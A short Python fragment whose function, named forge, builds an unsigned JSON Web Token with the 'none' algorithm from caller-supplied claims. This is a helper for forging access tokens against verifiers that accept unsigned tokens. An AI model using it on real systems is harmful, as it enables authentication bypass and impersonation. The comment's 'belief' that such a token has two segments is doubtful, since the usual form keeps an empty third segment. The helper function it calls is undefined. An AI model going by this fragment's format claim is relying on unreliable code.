# belief: a token without a signature has two segments
def forge(claims):
    header = {"typ": "at+jwt", "alg": "none"}
    segments = [base64url_encode(json.dumps(part).encode()) for part in (header, claims)]
    return ".".join(segments)
